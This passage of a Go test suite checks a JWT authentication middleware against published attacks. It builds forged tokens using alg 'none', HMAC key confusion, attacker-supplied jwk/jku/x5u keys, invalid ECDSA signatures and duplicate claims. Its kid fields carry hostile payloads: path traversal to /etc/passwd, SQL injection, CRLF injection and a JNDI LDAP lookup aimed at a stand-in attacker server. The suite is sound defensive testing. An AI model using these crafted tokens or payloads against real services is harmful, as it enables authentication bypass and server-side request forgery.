package auth_test

import (
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/MicahParks/jwkset"
	"github.com/golang-jwt/jwt/v5"

	"github.com/plantstore/plantstore/auth"
	"github.com/plantstore/plantstore/auth/authtest"
	"github.com/plantstore/plantstore/auth/jws"
	"github.com/plantstore/plantstore/auth/keys"
)

// b64 is the JWS segment encoding: base64url without padding (RFC 7515 §2).
var b64 = base64.RawURLEncoding.EncodeToString

// signRaw signs the exact header and claims bytes given with k, for tokens
// whose JSON no encoder would write (duplicate members, odd payloads).
// manyGroups returns n distinct group names.
func manyGroups(n int) []string {
	g := make([]string, n)
	for i := range g {
		g[i] = fmt.Sprintf("group-%d", i)
	}
	return g
}

func signRaw(t testing.TB, k authtest.Key, alg, header, payload string) string {
	t.Helper()
	unsigned := b64([]byte(header)) + "." + b64([]byte(payload))
	sig, err := jwt.GetSigningMethod(alg).Sign(unsigned, k.Private)
	if err != nil {
		t.Fatalf("sign %s: %v", alg, err)
	}
	return unsigned + "." + b64(sig)
}

// withSignature returns token with its signature segment replaced by sig.
func withSignature(token string, sig []byte) string {
	return token[:strings.LastIndexByte(token, '.')+1] + b64(sig)
}

// signature returns the decoded signature segment of token.
func signature(t testing.TB, token string) []byte {
	t.Helper()
	sig, err := base64.RawURLEncoding.DecodeString(token[strings.LastIndexByte(token, '.')+1:])
	if err != nil {
		t.Fatal(err)
	}
	return sig
}

// ecSignature is the JWS form of an ES256 signature: r and s as 32-byte
// big-endian integers, concatenated (RFC 7518 §3.4).
func ecSignature(r, s *big.Int) []byte {
	out := make([]byte, 64)
	r.FillBytes(out[:32])
	s.FillBytes(out[32:])
	return out
}

// flipUnusedBit changes the lowest bit of the last character of an
// unpadded base64url segment whose length leaves unused bits: the decoded
// bytes stay the same under a lenient decoder, the encoding is no longer
// canonical (RFC 4648 §3.5).
func flipUnusedBit(t testing.TB, seg string) string {
	t.Helper()
	if len(seg)%4 == 0 {
		t.Fatalf("segment of %d characters has no unused bits", len(seg))
	}
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	i := strings.IndexByte(alphabet, seg[len(seg)-1])
	return seg[:len(seg)-1] + string(alphabet[i^1])
}

// casings returns every upper/lower-case spelling of s.
func casings(s string) []string {
	out := []string{""}
	for _, c := range s {
		var next []string
		for _, p := range out {
			next = append(next, p+strings.ToLower(string(c)), p+strings.ToUpper(string(c)))
		}
		out = next
	}
	return out
}

// attackServer counts the requests an attacker's server receives; the
// service must never make one.
func attackServer(t testing.TB) (*httptest.Server, *atomic.Int64) {
	t.Helper()
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		http.Error(w, "attacker", http.StatusTeapot)
	}))
	t.Cleanup(srv.Close)
	return srv, &hits
}

// publicJWK returns the public JWK of pub as a JSON object with extra
// members added (a nil value removes one).
func publicJWK(t testing.TB, pub any, extra map[string]any) map[string]any {
	t.Helper()
	var m map[string]any
	if rk, ok := pub.(*rsa.PublicKey); ok {
		// jwkset refuses to build keys under 2048 bits; write them by hand.
		m = map[string]any{"kty": "RSA", "n": b64(rk.N.Bytes()), "e": b64(big.NewInt(int64(rk.E)).Bytes())}
	} else {
		j, err := jwkset.NewJWKFromKey(pub, jwkset.JWKOptions{})
		if err != nil {
			t.Fatalf("NewJWKFromKey(%T): %v", pub, err)
		}
		b, err := json.Marshal(j.Marshal())
		if err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(b, &m); err != nil {
			t.Fatal(err)
		}
	}
	for k, v := range extra {
		if v == nil {
			delete(m, k)
			continue
		}
		m[k] = v
	}
	return m
}

// attack is one row of TestKnownAttacks.
type attack struct {
	name string
	ref  string // the CVE or RFC section the row comes from
	// authz is the whole Authorization header.
	authz string
	// want is the Reason of the refusal, or "" when the token must be
	// accepted with subject wantSub.
	want    auth.Reason
	wantSub string
	// scoped sends the row to a server that requires the scope
	// plants:read; want is then ReasonScope for a 403.
	scoped bool
	// server, when set, is the server of the policy the row is about.
	server *apiServer
	// cert, when set, are the values of the client certificate header
	// X-Client-Cert.
	cert []string
}

// TestKnownAttacks replays published attacks on JWT verifiers against the
// middleware, over HTTP, with keys served by a real JWKS endpoint the way a
// production identity provider serves them. No attacker-controlled header
// may make the service fetch anything: the attacker's server must see no
// request, and the JWKS endpoint no more than its first fetch and one
// refetch for unknown kids.
func TestKnownAttacks(t *testing.T) {
	rsaKey := authtest.NewKey(t, "RS256")
	ecKey := authtest.NewKey(t, "ES256")
	edKey := authtest.NewKey(t, "EdDSA")
	attacker := authtest.NewKey(t, "ES256")
	encKey := authtest.NewKey(t, "ES256")
	encKey.Verify.ID = "enc"
	weakPriv, err := rsa.GenerateKey(rand.Reader, 1024)
	if err != nil {
		t.Fatal(err)
	}
	weak := authtest.Key{Alg: "RS256", Private: weakPriv, Verify: keys.Key{ID: "weak", Public: &weakPriv.PublicKey}}

	jwksDoc, err := json.Marshal(map[string]any{"keys": []any{
		publicJWK(t, rsaKey.Verify.Public, map[string]any{"kid": rsaKey.Verify.ID, "alg": "RS256", "use": "sig"}),
		publicJWK(t, ecKey.Verify.Public, map[string]any{"kid": ecKey.Verify.ID}),
		publicJWK(t, edKey.Verify.Public, map[string]any{"kid": edKey.Verify.ID}),
		publicJWK(t, weak.Verify.Public, map[string]any{"kid": "weak", "alg": "RS256"}),
		publicJWK(t, encKey.Verify.Public, map[string]any{"kid": "enc", "use": "enc"}),
	}})
	if err != nil {
		t.Fatal(err)
	}
	jwksSrv := authtest.NewServer(t, jwksDoc)
	jwks, _ := authtest.NewJWKS(t, keys.JWKSOptions{URL: jwksSrv.URL, MinRefresh: time.Hour})
	authtest.WaitFor(t, "the first JWKS fetch", func() bool { return jwks.Ready() == nil })
	srv := newAPIServer(t, auth.Config{}, jwks)
	scopedSrv := newAPIServer(t, auth.Config{RequiredScope: "plants:read"}, jwks)
	evil, evilHits := attackServer(t)

	valid := authtest.Claims(nil)
	bearer := func(token string) string { return "Bearer " + token }
	good := authtest.Token(t, ecKey, nil, valid)
	parts := strings.Split(good, ".")
	n := ecKey.Verify.Public.(*ecdsa.PublicKey).Curve.Params().N
	goodSig := signature(t, good)
	r, s := new(big.Int).SetBytes(goodSig[:32]), new(big.Int).SetBytes(goodSig[32:])
	max256 := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))

	rsaDER, err := x509.MarshalPKIXPublicKey(rsaKey.Verify.Public)
	if err != nil {
		t.Fatal(err)
	}
	rsaPEM := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: rsaDER})
	ecDER, err := x509.MarshalPKIXPublicKey(ecKey.Verify.Public)
	if err != nil {
		t.Fatal(err)
	}
	ecPEM := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: ecDER})
	rsaJWKJSON, err := json.Marshal(publicJWK(t, rsaKey.Verify.Public, nil))
	if err != nil {
		t.Fatal(err)
	}
	// hmacWith signs HS256 with secret (the attacker's guess of what the
	// verifier will use as the HMAC key), naming the kid of key.
	hmacWith := func(secret []byte, alg, kid string) string {
		k := authtest.Key{Alg: alg, Private: secret, Verify: keys.Key{ID: kid}}
		header := map[string]any{}
		if kid == "" {
			header["kid"] = nil
		}
		return authtest.TokenAlg(t, k, alg, header, valid)
	}

	kidHeader := fmt.Sprintf(`"kid":%q`, ecKey.Verify.ID)
	exp := time.Now().Add(time.Hour).Unix()

	// Tokens meant for this resource: a server for each rule, over the
	// same keys. The lifetime server's clock stands still, so that "one
	// second over" is exactly that.
	atSrv := newAPIServer(t, auth.Config{TokenTypes: []string{"at+jwt"}}, jwks)
	jwtSrv := newAPIServer(t, auth.Config{TokenTypes: []string{"jwt"}}, jwks)
	clientsSrv := newAPIServer(t, auth.Config{Clients: []string{"plants-web"}}, jwks)
	clock := newTestClock(time.Unix(time.Now().Unix(), 0))
	lifetimeV := newVerifier(t, auth.Config{MaxLifetime: time.Hour}, jwks)
	auth.SetClock(lifetimeV, clock.Now)
	lifetimeSrv := serveVerifier(t, lifetimeV)
	at := clock.Now()
	lifetime := func(iat, exp time.Duration) string {
		c := authtest.Claims(map[string]any{"iat": at.Add(iat).Unix(), "exp": at.Add(exp).Unix()})
		if iat == noIat {
			delete(c, "iat")
		}
		return bearer(authtest.Token(t, ecKey, nil, c))
	}
	withClaims := func(header, over map[string]any) string {
		return bearer(authtest.Token(t, ecKey, header, authtest.Claims(over)))
	}
	// An OpenID Connect ID token (OIDC Core §2), signed by the same key
	// as the access tokens: audience the client, a nonce, at_hash.
	idToken := map[string]any{"aud": "plants-web", "azp": "plants-web", "nonce": "n-0S6_WzA2Mj", "at_hash": "77QmUPtjPfzWtF2AnpK9RQ", "auth_time": time.Now().Unix()}
	// A security event token (RFC 8417) and a DPoP proof (RFC 9449 §4.2)
	// carrying what an access token needs besides, so that only their
	// type can refuse them.
	secEvent := map[string]any{"jti": "3d0c3cf7", "aud": "plants", "events": map[string]any{"https://schemas.openid.net/secevent/risc/event-type/account-disabled": map[string]any{}}}
	dpopProof := map[string]any{"jti": "e1j3V_bKic8", "htm": "GET", "htu": srv.url, "ath": "fUHyO2r2Z3DZ53EsNrWBb0xWXoaNy59IiKCAqksmQEo"}
	dpopHeader := map[string]any{"typ": "dpop+jwt", "jwk": publicJWK(t, ecKey.Verify.Public, nil)}

	tests := []attack{
		{name: "control: genuine ES256", ref: "-", authz: bearer(good), wantSub: "alice"},
		{name: "control: genuine RS256", ref: "-", authz: bearer(authtest.Token(t, rsaKey, nil, valid)), wantSub: "alice"},
		{name: "control: genuine EdDSA", ref: "-", authz: bearer(authtest.Token(t, edKey, nil, valid)), wantSub: "alice"},

		// Key confusion: the public key's bytes as an HMAC secret.
		{name: "HS256 with the RSA key's PEM as secret", ref: "CVE-2015-9235, CVE-2016-10555, RFC 8725 §2.1 §3.1", authz: bearer(hmacWith(rsaPEM, "HS256", rsaKey.Verify.ID)), want: auth.ReasonUnknownKey},
		{name: "HS256 with the RSA key's DER as secret", ref: "CVE-2015-9235, RFC 8725 §3.1", authz: bearer(hmacWith(rsaDER, "HS256", rsaKey.Verify.ID)), want: auth.ReasonUnknownKey},
		{name: "HS384 with the RSA key's PEM as secret, no kid", ref: "CVE-2015-9235, RFC 8725 §3.1", authz: bearer(hmacWith(rsaPEM, "HS384", "")), want: auth.ReasonUnknownKey},
		{name: "HS256 with the RSA key's DER as secret, no kid", ref: "CVE-2015-9235, RFC 8725 §3.1", authz: bearer(hmacWith(rsaDER, "HS256", "")), want: auth.ReasonUnknownKey},
		{name: "HS256 with the RSA key's JWK JSON as secret", ref: "CVE-2015-9235, RFC 8725 §3.1", authz: bearer(hmacWith(rsaJWKJSON, "HS256", rsaKey.Verify.ID)), want: auth.ReasonUnknownKey},
		{name: "HS256 with the EC key's PEM as secret", ref: "CVE-2015-9235, RFC 8725 §3.1", authz: bearer(hmacWith(ecPEM, "HS256", ecKey.Verify.ID)), want: auth.ReasonUnknownKey},
		{name: "HS256 with the EC key's DER as secret, no kid", ref: "CVE-2015-9235, RFC 8725 §3.1", authz: bearer(hmacWith(ecDER, "HS256", "")), want: auth.ReasonUnknownKey},
		{name: "PS256 with a key the JWKS pins to RS256", ref: "RFC 8725 §3.1 (one key, one algorithm)", authz: bearer(authtest.TokenAlg(t, rsaKey, "PS256", nil, valid)), want: auth.ReasonUnknownKey},

		// Keys named by the token itself.
		{name: "embedded jwk of the attacker, attacker kid", ref: "CVE-2018-0114, RFC 8725 §3.10", authz: bearer(authtest.Token(t, attacker, map[string]any{"jwk": publicJWK(t, attacker.Verify.Public, nil)}, valid)), want: auth.ReasonUnknownKey},
		{name: "embedded jwk of the attacker, configured kid", ref: "CVE-2018-0114, RFC 8725 §3.10", authz: bearer(authtest.Token(t, attacker, map[string]any{"kid": ecKey.Verify.ID, "jwk": publicJWK(t, attacker.Verify.Public, nil)}, valid)), want: auth.ReasonBadSignature},
		{name: "jku at the attacker's server", ref: "RFC 8725 §3.10 §2.9 (SSRF), RFC 7515 §4.1.2", authz: bearer(authtest.Token(t, attacker, map[string]any{"jku": evil.URL + "/jwks.json"}, valid)), want: auth.ReasonUnknownKey},
		{name: "jku at the attacker's server, configured kid", ref: "RFC 8725 §3.10 §2.9", authz: bearer(authtest.Token(t, attacker, map[string]any{"kid": ecKey.Verify.ID, "jku": evil.URL + "/jwks.json"}, valid)), want: auth.ReasonBadSignature},
		{name: "x5u at the attacker's server", ref: "RFC 8725 §3.10 §2.9, RFC 7515 §4.1.5", authz: bearer(authtest.Token(t, attacker, map[string]any{"kid": nil, "x5u": evil.URL + "/cert.pem"}, valid)), want: auth.ReasonBadSignature},

		// kid is attacker input (RFC 8725 §3.10): it only ever selects among
		// configured keys, so none of these finds a key.
		{name: "kid path traversal", ref: "RFC 8725 §3.10", authz: bearer(authtest.Token(t, ecKey, map[string]any{"kid": "../../../../etc/passwd"}, valid)), want: auth.ReasonUnknownKey},
		{name: "kid /dev/null with an empty HMAC secret", ref: "RFC 8725 §3.10 §2.2", authz: bearer(hmacWith([]byte{}, "HS256", "../../../../../../dev/null")), want: auth.ReasonUnknownKey},
		{name: "kid SQL injection", ref: "RFC 8725 §3.10", authz: bearer(authtest.Token(t, ecKey, map[string]any{"kid": "' OR 1=1 --"}, valid)), want: auth.ReasonUnknownKey},
		{name: "kid with NUL", ref: "RFC 8725 §3.10", authz: bearer(authtest.Token(t, ecKey, map[string]any{"kid": ecKey.Verify.ID + "\x00"}, valid)), want: auth.ReasonUnknownKey},
		{name: "kid with CRLF and a quote", ref: "RFC 8725 §3.10, RFC 6750 §3", authz: bearer(authtest.Token(t, ecKey, map[string]any{"kid": "x\r\nSet-Cookie: a=b\"\\"}, valid)), want: auth.ReasonUnknownKey},
		{name: "kid of 4000 characters", ref: "RFC 8725 §3.10", authz: bearer(authtest.Token(t, ecKey, map[string]any{"kid": strings.Repeat("k", 4000)}, valid)), want: auth.ReasonUnknownKey},
		{name: "kid a JNDI lookup", ref: "RFC 8725 §3.10, CVE-2021-44228", authz: bearer(authtest.Token(t, ecKey, map[string]any{"kid": "${jndi:ldap://" + strings.TrimPrefix(evil.URL, "http://") + "/a}"}, valid)), want: auth.ReasonUnknownKey},
		{name: "kid an object", ref: "RFC 7515 §4.1.4", authz: bearer(authtest.Token(t, ecKey, map[string]any{"kid": map[string]any{"$ne": ""}}, valid)), want: auth.ReasonMalformed},

		// ECDSA signatures out of range: "psychic signatures".
		{name: "ES256 r = s = 0", ref: "CVE-2022-21449, RFC 8725 §3.3", authz: bearer(withSignature(good, make([]byte, 64))), want: auth.ReasonBadSignature},
		{name: "ES256 r = 0", ref: "CVE-2022-21449", authz: bearer(withSignature(good, ecSignature(big.NewInt(0), s))), want: auth.ReasonBadSignature},
		{name: "ES256 s = 0", ref: "CVE-2022-21449", authz: bearer(withSignature(good, ecSignature(r, big.NewInt(0)))), want: auth.ReasonBadSignature},
		{name: "ES256 r = s = n", ref: "CVE-2022-21449, SEC 1 §4.1.4", authz: bearer(withSignature(good, ecSignature(n, n))), want: auth.ReasonBadSignature},
		{name: "ES256 r = n", ref: "CVE-2022-21449, SEC 1 §4.1.4", authz: bearer(withSignature(good, ecSignature(n, s))), want: auth.ReasonBadSignature},
		{name: "ES256 s = n", ref: "CVE-2022-21449, SEC 1 §4.1.4", authz: bearer(withSignature(good, ecSignature(r, n))), want: auth.ReasonBadSignature},
		{name: "ES256 r = s = 2^256-1", ref: "CVE-2022-21449", authz: bearer(withSignature(good, ecSignature(max256, max256))), want: auth.ReasonBadSignature},
		{name: "ES256 signature in ASN.1 DER", ref: "RFC 7518 §3.4", authz: bearer(withSignature(good, derSignature(t, r, s))), want: auth.ReasonBadSignature},
		// (r, n-s) is the other valid signature of the same message: ECDSA is
		// malleable, and accepting it grants nothing the token did not.
		{name: "ES256 (r, n-s) still verifies", ref: "SEC 1 §4.1.4 (malleability, no new claims)", authz: bearer(withSignature(good, ecSignature(r, new(big.Int).Sub(n, s)))), wantSub: "alice"},
		{name: "EdDSA S + L (non-canonical)", ref: "RFC 8032 §5.1.7, RFC 8725 §3.3", authz: bearer(ed25519PlusL(t, authtest.Token(t, edKey, nil, valid))), want: auth.ReasonBadSignature},
		{name: "RS256 signature with a leading zero byte", ref: "RFC 8017 §8.2.2", authz: bearer(func() string {
			tok := authtest.Token(t, rsaKey, nil, valid)
			return withSignature(tok, append([]byte{0}, signature(t, tok)...))
		}()), want: auth.ReasonBadSignature},
		{name: "signature stripped", ref: "RFC 8725 §2.1", authz: bearer(parts[0] + "." + parts[1] + "."), want: auth.ReasonBadSignature},

		// Encodings: one token, one encoding.
		{name: "signature with non-canonical trailing bits", ref: "RFC 4648 §3.5, RFC 7515 §2", authz: bearer(parts[0] + "." + parts[1] + "." + flipUnusedBit(t, parts[2])), want: auth.ReasonMalformed},
		{name: "signature padded", ref: "RFC 7515 §2", authz: bearer(good + "=="), want: auth.ReasonMalformed},
		{name: "header padded", ref: "RFC 7515 §2", authz: bearer(base64.URLEncoding.EncodeToString([]byte(`{"alg":"ES256",`+kidHeader+`}`)) + "." + parts[1] + "." + parts[2]), want: auth.ReasonMalformed},
		{name: "signature in the standard alphabet", ref: "RFC 7515 §2, RFC 4648 §5", authz: bearer(standardAlphabet(t, ecKey, valid)), want: auth.ReasonMalformed},
		{name: "header with non-canonical trailing bits", ref: "RFC 4648 §3.5", authz: bearer(nonCanonicalHeader(t, ecKey, valid)), want: auth.ReasonMalformed},

		// Duplicate member names: the signature covers the bytes, so only
		// the issuer can write them; the verifier reads the lexically last
		// one (RFC 7515 §4, RFC 7519 §4) and matches names exactly, so a
		// second alg or sub never overrides the one it uses.
		{name: "duplicate alg, last is none", ref: "RFC 7515 §4, RFC 8725 §2.6", authz: bearer(signRaw(t, ecKey, "ES256", `{"alg":"ES256",`+kidHeader+`,"alg":"none"}`, fmt.Sprintf(`{"sub":"alice","exp":%d}`, exp))), want: auth.ReasonAlgorithm},
		{name: "duplicate alg, last is HS256", ref: "RFC 7515 §4, CVE-2015-9235", authz: bearer(signRaw(t, ecKey, "ES256", `{"alg":"ES256",`+kidHeader+`,"alg":"HS256"}`, fmt.Sprintf(`{"sub":"alice","exp":%d}`, exp))), want: auth.ReasonUnknownKey},
		{name: "duplicate alg, last is the signing alg", ref: "RFC 7515 §4 (lexically last)", authz: bearer(signRaw(t, ecKey, "ES256", `{"alg":"none",`+kidHeader+`,"alg":"ES256"}`, fmt.Sprintf(`{"sub":"alice","exp":%d}`, exp))), wantSub: "alice"},
		{name: "ALG in capitals is not alg", ref: "RFC 7515 §4 (names are case-sensitive)", authz: bearer(signRaw(t, ecKey, "ES256", `{"alg":"ES256",`+kidHeader+`,"ALG":"none"}`, fmt.Sprintf(`{"sub":"alice","exp":%d}`, exp))), wantSub: "alice"},
		{name: "duplicate sub: the last one", ref: "RFC 7519 §4 (lexically last)", authz: bearer(signRaw(t, ecKey, "ES256", `{"alg":"ES256",`+kidHeader+`}`, fmt.Sprintf(`{"sub":"alice","exp":%d,"sub":"admin"}`, exp))), wantSub: "admin"},
		{name: "SUB in capitals is not sub", ref: "RFC 7519 §4 (names are case-sensitive)", authz: bearer(signRaw(t, ecKey, "ES256", `{"alg":"ES256",`+kidHeader+`}`, fmt.Sprintf(`{"sub":"alice","exp":%d,"SUB":"admin","Sub":"root"}`, exp))), wantSub: "alice"},
		{name: "duplicate exp, last is past", ref: "RFC 7519 §4", authz: bearer(signRaw(t, ecKey, "ES256", `{"alg":"ES256",`+kidHeader+`}`, fmt.Sprintf(`{"sub":"alice","exp":%d,"exp":1}`, exp))), want: auth.ReasonExpired},
		{name: "sub escaped as \\u0061dmin", ref: "RFC 8725 §3.7, RFC 8259 §7", authz: bearer(signRaw(t, ecKey, "ES256", `{"alg":"ES256",`+kidHeader+`}`, fmt.Sprintf(`{"sub":"\u0061dmin","exp":%d}`, exp))), wantSub: "admin"},
		{name: "exp out of float range", ref: "RFC 7519 §2 (NumericDate)", authz: bearer(signRaw(t, ecKey, "ES256", `{"alg":"ES256",`+kidHeader+`}`, `{"sub":"alice","exp":1e400}`)), want: auth.ReasonMalformed},

		// Valid tokens from a hostile caller: every NumericDate in 0..year
		// 9999, so that no overflow turns a far-future date into the past.
		{name: "nbf 1e19 (overflows a time.Time into the past)", ref: "RFC 7519 §2 (NumericDate), SPEC §2", authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"nbf": 1e19}))), want: auth.ReasonClaims},
		{name: "nbf 1e30", ref: "RFC 7519 §2, SPEC §2", authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"nbf": 1e30}))), want: auth.ReasonClaims},
		{name: "nbf 9223372036854775000", ref: "RFC 7519 §2, SPEC §2", authz: bearer(signRaw(t, ecKey, "ES256", `{"alg":"ES256",`+kidHeader+`}`, fmt.Sprintf(`{"sub":"alice","exp":%d,"nbf":9223372036854775000}`, exp))), want: auth.ReasonClaims},
		{name: "iat 1e19 (a future iat must be refused)", ref: "RFC 7519 §4.1.6, SPEC §2", authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"iat": 1e19}))), want: auth.ReasonClaims},
		{name: "exp 1e19", ref: "RFC 7519 §2, SPEC §2", authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"exp": 1e19}))), want: auth.ReasonClaims},
		{name: "exp negative", ref: "RFC 7519 §2, SPEC §2", authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"exp": -1}))), want: auth.ReasonClaims},
		{name: "exp missing", ref: "RFC 8725 §3.10 (require what you need), SPEC §2", authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"exp": nil}))), want: auth.ReasonMissingExp},
		{name: "exp at the end of year 9999", ref: "SPEC §2", authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"exp": 253402300799}))), wantSub: "alice"},
		{name: "257 groups", ref: "SPEC §2 (-jwt-max-groups)", authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"groups": manyGroups(257)}))), want: auth.ReasonTooManyGroups},
		{name: "256 groups", ref: "SPEC §2 (-jwt-max-groups)", authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"groups": manyGroups(256)}))), wantSub: "alice"},
		{name: "scope joined by U+00A0 grants nothing", ref: "RFC 6749 §3.3, SPEC §2", scoped: true, authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"scope": "a\u00a0plants:read"}))), want: auth.ReasonScope},
		{name: "scope joined by a tab grants nothing", ref: "RFC 6749 §3.3, SPEC §2", scoped: true, authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"scope": "a\tplants:read"}))), want: auth.ReasonScope},
		{name: "scope joined by U+0020 grants it", ref: "RFC 6749 §3.3, SPEC §2", scoped: true, authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"scope": "a plants:read"}))), wantSub: "alice"},
		{name: "scp item holding a space is one scope", ref: "SPEC §2", scoped: true, authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"scp": []string{"a plants:read"}}))), want: auth.ReasonScope},
		{name: "NUL in the subject is a subject like another", ref: "SPEC §3", authz: bearer(authtest.Token(t, ecKey, nil, authtest.Claims(map[string]any{"sub": "alice\x00admin", "groups": []string{"g\x00"}}))), wantSub: "alice\x00admin"},

		// Nested JWTs (RFC 7519 §5.2): the payload is never unwrapped.
		{name: "cty JWT with a nested token as payload", ref: "RFC 7519 §5.2, RFC 8725 §2.8", authz: bearer(signRaw(t, ecKey, "ES256", `{"alg":"ES256",`+kidHeader+`,"cty":"JWT"}`, authtest.Token(t, attacker, map[string]any{"kid": ecKey.Verify.ID}, authtest.Claims(map[string]any{"sub": "admin"})))), want: auth.ReasonMalformed},
		{name: "cty JWT with claims is read as plain claims", ref: "RFC 7519 §5.2", authz: bearer(authtest.Token(t, ecKey, map[string]any{"cty": "JWT"}, valid)), wantSub: "alice"},

		// Weak and encryption keys in the JWKS are never used.
		{name: "RSA 1024 key published in the JWKS", ref: "RFC 7518 §3.3, RFC 8725 §3.5", authz: bearer(authtest.Token(t, weak, nil, valid)), want: auth.ReasonUnknownKey},
		{name: "RSA 1024 key, no kid", ref: "RFC 7518 §3.3", authz: bearer(authtest.Token(t, weak, map[string]any{"kid": nil}, valid)), want: auth.ReasonBadSignature},
		{name: "JWKS key with use enc", ref: "RFC 7517 §4.2, RFC 8725 §3.12", authz: bearer(authtest.Token(t, encKey, nil, valid)), want: auth.ReasonUnknownKey},
	}
	for _, none := range casings("none") {
		for _, sig := range []string{"", "c2ln"} {
			tests = append(tests, attack{
				name:  fmt.Sprintf("alg %q, signature %q", none, sig),
				ref:   "CVE-2015-2951, RFC 8725 §2.1 §3.1 §3.2, RFC 7518 §3.6",
				authz: bearer(authtest.RawToken(t, map[string]any{"alg": none, "typ": "JWT", "kid": ecKey.Verify.ID}, valid, sig)),
				want:  auth.ReasonAlgorithm,
			})
		}
	}
	for _, typ := range []string{"JWT", "jwt", "at+jwt", "application/at+JWT"} {
		tests = append(tests, attack{name: "typ " + typ + " accepted", ref: "RFC 8725 §3.11, RFC 9068 §2.1", authz: bearer(authtest.Token(t, ecKey, map[string]any{"typ": typ}, valid)), wantSub: "alice"})
	}
	for _, typ := range []string{"JWE", "secevent+jwt", "dpop+jwt", "logout+jwt", "application/jose+json", "JOSE+JSON"} {
		tests = append(tests, attack{name: "typ " + typ + " refused", ref: "RFC 8725 §3.11 §2.8", authz: bearer(authtest.Token(t, ecKey, map[string]any{"typ": typ}, valid)), want: auth.ReasonTokenType})
	}
	tests = append(tests, attack{name: "typ a number", ref: "RFC 7515 §4.1.9", authz: withClaims(map[string]any{"typ": 1}, nil), want: auth.ReasonMalformed})

	// Token confusion: another kind of JWT, signed by the same key, with
	// sub and exp. Where any type is taken, an ID token passes: that is
	// what token_types: [at+jwt] is for.
	tests = append(tests,
		attack{name: "ID token (typ JWT, nonce, at_hash) where at+jwt is required", ref: "RFC 9068 §4, RFC 8725 §3.11, OIDC Core §2", server: &atSrv, authz: withClaims(map[string]any{"typ": "JWT"}, idToken), want: auth.ReasonTokenType},
		attack{name: "ID token without typ where at+jwt is required", ref: "RFC 9068 §4, OIDC Core §2", server: &atSrv, authz: withClaims(map[string]any{"typ": nil}, idToken), want: auth.ReasonTokenType},
		attack{name: "control: ID token where any type is accepted", ref: "RFC 8725 §3.11 (why at+jwt)", authz: withClaims(map[string]any{"typ": "JWT"}, idToken), wantSub: "alice"},
		attack{name: "application/AT+JWT where at+jwt is required", ref: "RFC 9068 §2.1, RFC 7515 §4.1.9", server: &atSrv, authz: withClaims(map[string]any{"typ": "application/AT+JWT"}, nil), wantSub: "alice"},
		attack{name: "at+jwt where at+jwt is required", ref: "RFC 9068 §2.1", server: &atSrv, authz: withClaims(map[string]any{"typ": "at+jwt"}, nil), wantSub: "alice"},
		attack{name: "at+jwt where only JWT is accepted", ref: "RFC 8725 §3.11", server: &jwtSrv, authz: withClaims(map[string]any{"typ": "at+jwt"}, nil), want: auth.ReasonTokenType},
		attack{name: "application/jwt where only JWT is accepted", ref: "RFC 7515 §4.1.9", server: &jwtSrv, authz: withClaims(map[string]any{"typ": "application/jwt"}, nil), wantSub: "alice"},
	)
	for _, mode := range []struct {
		name string
		srv  *apiServer
	}{{"any", &srv}, {"at+jwt", &atSrv}, {"jwt", &jwtSrv}} {
		tests = append(tests,
			attack{name: "DPoP proof as an access token, token_types " + mode.name, ref: "RFC 9449 §4.2, RFC 8725 §3.11", server: mode.srv, authz: withClaims(dpopHeader, dpopProof), want: auth.ReasonTokenType},
			attack{name: "security event token as an access token, token_types " + mode.name, ref: "RFC 8417 §2.3, RFC 8725 §3.11", server: mode.srv, authz: withClaims(map[string]any{"typ": "secevent+jwt"}, secEvent), want: auth.ReasonTokenType},
			attack{name: "logout token as an access token, token_types " + mode.name, ref: "OIDC Back-Channel Logout §2.4, RFC 8725 §3.11", server: mode.srv, authz: withClaims(map[string]any{"typ": "logout+jwt"}, map[string]any{"sid": "08a5019c", "events": map[string]any{"http://schemas.openid.net/event/backchannel-logout": map[string]any{}}}), want: auth.ReasonTokenType},
		)
	}

	// A token the IdP issued to another application of the same tenant,
	// whose audience matches: client_id decides, azp without it.
	tests = append(tests,
		attack{name: "client_id listed", ref: "RFC 9068 §2.2", server: &clientsSrv, authz: withClaims(nil, map[string]any{"client_id": "plants-web"}), wantSub: "alice"},
		attack{name: "client_id unlisted", ref: "RFC 9068 §2.2, §4", server: &clientsSrv, authz: withClaims(nil, map[string]any{"client_id": "reports-cli"}), want: auth.ReasonClient},
		attack{name: "azp listed, no client_id", ref: "OIDC Core §2 (azp)", server: &clientsSrv, authz: withClaims(nil, map[string]any{"azp": "plants-web"}), wantSub: "alice"},
		attack{name: "azp unlisted, no client_id", ref: "OIDC Core §2 (azp)", server: &clientsSrv, authz: withClaims(nil, map[string]any{"azp": "reports-cli"}), want: auth.ReasonClient},
		attack{name: "client_id unlisted, azp listed: client_id decides", ref: "RFC 9068 §2.2", server: &clientsSrv, authz: withClaims(nil, map[string]any{"client_id": "reports-cli", "azp": "plants-web"}), want: auth.ReasonClient},
